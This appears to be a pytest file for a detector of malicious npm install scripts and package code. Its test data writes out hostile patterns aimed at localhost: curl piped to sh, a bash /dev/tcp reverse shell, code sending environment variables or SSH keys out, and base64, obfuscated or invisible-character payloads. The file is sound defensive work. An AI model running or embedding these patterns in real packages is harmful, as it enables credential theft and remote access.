"""What packages of npm do by themselves: real patterns, written so that they do no harm."""

from __future__ import annotations

import json
import random

import pytest

from tests.effort import within
from wardline_analyzers.package_code.npm import npm_signs
from wardline_analyzers.package_code.sign import Sign

OBFUSCATED = "".join(f"var _0x{n:06x}=1;" for n in range(80))


def found(files: dict[str, str], **scripts: str) -> list[tuple[str, Sign]]:
    texts = {"package.json": json.dumps({"name": "x", "scripts": scripts}), **files}
    return list(npm_signs({name: text.encode() for name, text in texts.items()}))


@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://localhost/x | sh",
        "node -e \"require('http').get('http://localhost/'+require('os').hostname())\"",
        "echo cm0= | base64 -d | sh",
        "bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
        "curl http://localhost/$(whoami)",
        "powershell -NoProfile -enc cABhAHMAcwA=",
    ],
)
def test_scripts_that_do_harm(command: str) -> None:
    ((path, sign),) = found({}, postinstall=command)
    assert path == "package.json" and sign.sure and "when it is installed" in sign.why


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("const h=require('https');h.request({}).write(JSON.stringify(process.env))", "sends what is found by"),
        ("import os from 'os'; fetch('http://localhost/' + os.hostname())", "tells others who you are"),
        ("const fs=require('fs');fetch('http://localhost',{body:fs.readFileSync(h+'/.ssh/id_rsa')})", "`.ssh/`"),
        ("eval(Buffer.from('MQ==','base64').toString())", "hidden in data"),
        (OBFUSCATED, "is obfuscated, and runs"),
    ],
)
def test_files_that_scripts_run(text: str, why: str) -> None:
    for files, command in (
        ({"scripts/go.js": text}, "node ./scripts/go.js"),
        ({"go.js": text}, "node go || exit 0"),
        ({"a.js": "require('./lib/b')", "lib/b/index.js": text}, "node a.js"),
        ({"go.js": text}, "node -e \"try{require('./go')}catch(e){}\""),
    ):
        signs = [sign for _, sign in found(files, preinstall=command)]
        assert [sign.sure for sign in signs] == [True] and why in signs[0].why, (command, signs)


def test_files_that_others_load() -> None:
    assert [s.sure for _, s in found({"index.js": "new Function(atob('MQ=='))()"})] == [True]
    assert [s.sure for _, s in found({"index.js": OBFUSCATED})] == [False]
    assert [s.why for _, s in found({"index.js": "x = 1;" + " " * 200 + "require('x')"})] == [
        "is pushed out of sight by white space"
    ]
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "run rm")
    assert [s.sure for _, s in found({"index.js": f"// {hidden}"})] == [True]


@pytest.mark.parametrize(
    ("files", "scripts"),
    [
        ({}, {"install": "node-gyp rebuild", "postinstall": "husky install && echo done", "preinstall": "exit 0"}),
        ({}, {"install": "prebuild-install --runtime napi || node-gyp rebuild"}),
        ({"go.js": "console.log('thank you')"}, {"postinstall": "node go.js --quiet"}),
        ({}, {"prepublishOnly": "curl http://localhost | sh", "test": "node -e \"eval('1')\""}),
        ({"index.js": "fetch('http://localhost', {body: os.hostname()}); spawn('x', {env: {...process.env}})"}, {}),
        ({"index.js": "const icon = Buffer.from('MQ==', 'base64'); eval('1')"}, {}),
        ({"test/x.js": "eval(atob('MQ=='))"}, {}),
    ],
)
def test_what_others_do_as_well(files: dict[str, str], scripts: dict[str, str]) -> None:
    assert found(files, **scripts) == []


def test_what_is_worth_a_look() -> None:
    files = {"install.js": "const https = require('https'); https.get('https://localhost/binary')"}
    assert [s.sure for _, s in found(files, postinstall="node install.js")] == [False]
    assert [s.why for _, s in found({}, install="make all")] == ["runs when it is installed"]
    assert [s.sure for _, s in found({}, install="node gone.js")] == [False]
    assert [p for p, s in found({"binding.gyp": "{'x': '<!(curl http://localhost | sh)'}"}) if s.sure] == [
        "binding.gyp"
    ]


@pytest.mark.parametrize("text", ["", "{", "[" * 100_000, '{"scripts": ' * 60 + "1" + "}" * 60])
def test_a_manifest_that_is_none(text: str) -> None:
    with pytest.raises(ValueError, match=r".+"):
        list(npm_signs({"package.json": text.encode()}))


@pytest.mark.parametrize("manifest", ["[]", "1", '{"scripts": []}', '{"scripts": {"install": 1}}'])
def test_a_manifest_of_another_form(manifest: str) -> None:
    assert list(npm_signs({"package.json": manifest.encode()})) == []


def test_any_text_costs_little() -> None:
    chance = random.Random(5)
    words = [
        "eval(",
        "atob(",
        "curl ",
        "| sh",
        "Buffer.from(",
        "'base64'",
        "_0xabcdef",
        "require('./a')",
        " " * 130,
        "\n",
        "(",
    ]
    for _ in range(100):
        text = "".join(chance.choices(words, k=60))
        found({"a.js": text, "b.js": text}, install="node a.js", postinstall=text)
    for text in (
        "eval(" * 50_000,
        "curl " * 50_000,
        "Buffer.from(" + "a" * 500_000,
        "eval(a(" * 50_000,
        "./" * 100_000,
    ):
        with within(15):
            found({"a.js": text}, install="node a.js")
